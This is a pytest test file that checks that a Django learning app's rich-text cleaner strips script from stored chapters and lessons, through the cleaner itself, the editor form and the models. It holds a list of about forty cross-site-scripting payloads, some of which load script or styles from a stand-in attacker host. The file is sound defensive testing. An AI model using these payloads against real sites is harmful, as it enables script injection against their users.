"""Stored rich text can never carry script, whichever way it is written: the classic payloads,
through the editor's form and straight through the model."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from tunet.learning import richtext
from tunet.learning.models import Chapter, ChapterRevision, Lesson

from .factories import ChapterFactory, HandbookFactory, course, editor

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="/handbok/bilder/1/" alt="x" onerror="alert(1)">',
    '<IMG SRC="javascript:alert(1)">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<a href="javascript:alert(1)">klikk</a>',
    '<a href="JaVaScRiPt:alert(1)">klikk</a>',
    '<a href="&#106;avascript:alert(1)">klikk</a>',
    '<a href=" javascript:alert(1)">klikk</a>',
    '<a href="java\tscript:alert(1)">klikk</a>',
    '<a href="vbscript:msgbox(1)">klikk</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klikk</a>',
    '<a href="#" onclick="alert(1)">klikk</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<base href="javascript:alert(1)//">',
    '"><script>alert(1)</script>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="//evil.example/">ser intern ut</a>',
    '<img src="https://evil.example/spor.png" alt="sporing">',
    # Browsers drop edge spaces and controls, and tabs and newlines inside, before reading an address.
    '<a href=" //evil.example/">ser intern ut</a>',
    '<a href="\x01//evil.example/">ser intern ut</a>',
    '<a href="/\t/evil.example/">ser intern ut</a>',
    '<a href="\\/evil.example/">ser intern ut</a>',
    '<img src="/handbok/bilder/1/\n" alt="x">',
    '<img src="/handbok/bilder/1/../../../evil" alt="x">',
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_safe(html):
    """Every element and attribute in html is on the allow-list, and no address can run script.

    Read as a browser would (character references decoded), not by searching the text: an escaped
    «onerror=» in the text is harmless words, an attribute is not.
    """
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag in richtext.TAGS, (tag, html)
        assert set(attrs) <= richtext.ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, attrs)
        for name in ("href", "src"):
            # As a browser reads it: controls and spaces at the edges and every tab and newline dropped.
            raw = (attrs.get(name) or "").strip("".join(map(chr, range(0x21))))
            address = raw.translate(str.maketrans("", "", "\t\n\r")).replace("\\", "/").lower()
            assert not address.startswith(("javascript:", "vbscript:", "data:", "//")), (tag, attrs)
        if tag == "img":
            assert richtext.IMAGE_SRC.fullmatch(attrs["src"]), attrs
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_cleaner_leaves_no_script(payload):
    cleaned = richtext.clean(f"<p>Før</p>{payload}<p>Etter</p>")
    assert_safe(cleaned)
    assert "Før" in cleaned  # the text before the attack is kept


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_chapter_saved_through_the_editor_stores_no_script(client, payload):
    membership = editor()
    client.force_login(membership.user)
    handbook = HandbookFactory()
    response = client.post(
        reverse("learning:chapter_new", args=[handbook.slug]),
        {"title": "Angrep", "key": "angrep", "audiences": ["buyer"], "body": f"<p>Tekst</p>{payload}", "sort_order": 1},
    )
    assert response.status_code in (200, 302)
    for chapter in Chapter.objects.all():
        assert_safe(chapter.body)
    for revision in ChapterRevision.objects.all():
        assert_safe(revision.body)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_models_clean_whatever_writes_them(payload):
    chapter = ChapterFactory(body=f"<p>Tekst</p>{payload}")
    chapter.refresh_from_db()
    assert_safe(chapter.body)
    Chapter.objects.filter(pk=chapter.pk).update(body=payload)  # a raw write skips save() ...
    chapter.refresh_from_db()
    chapter.save()  # ... and the next save cleans it.
    chapter.refresh_from_db()
    assert_safe(chapter.body)
    school = course(lessons=1, questions=1)
    lesson = Lesson.objects.get(course=school)
    lesson.body, lesson.tasks = payload, payload
    lesson.save()
    lesson.refresh_from_db()
    assert_safe(lesson.body)
    assert_safe(lesson.tasks)


def test_the_allowed_tags_survive():
    html = (
        '<h2>Tittel</h2><p><strong>Fet</strong> og <em>kursiv</em> og <a href="/handbok/kapittel/bli-godkjent/">lenke</a>'
        ' og <a href="https://www.norskmat.no/">ute</a> og <a href="mailto:post@example.no">e-post</a></p>'
        "<ul><li>en</li></ul><ol><li>to</li></ol><blockquote><p>sitat</p></blockquote>"
        '<figure><img src="/handbok/bilder/7/" alt="Høner på tunet"><figcaption>Høner</figcaption></figure>'
        '<table><caption>Tabell</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>'
        "<h3>Under</h3><h4>Under under</h4>"
    )
    cleaned = richtext.clean(html)
    for fragment in (
        "<h2>Tittel</h2>",
        "<strong>Fet</strong>",
        "<em>kursiv</em>",
        'href="/handbok/kapittel/bli-godkjent/"',
        'href="https://www.norskmat.no/"',
        'href="mailto:post@example.no"',
        "<blockquote>",
        '<img src="/handbok/bilder/7/" alt="Høner på tunet">',
        "<figcaption>Høner</figcaption>",
        '<th scope="col">A</th>',
        "<h3>Under</h3>",
        "<h4>Under under</h4>",
    ):
        assert fragment in cleaned, fragment
    assert 'rel="noopener noreferrer"' in cleaned


def test_the_image_address_the_cleaner_allows_is_the_one_the_view_serves():
    assert richtext.IMAGE_SRC.fullmatch(reverse("learning:image", args=[42]))
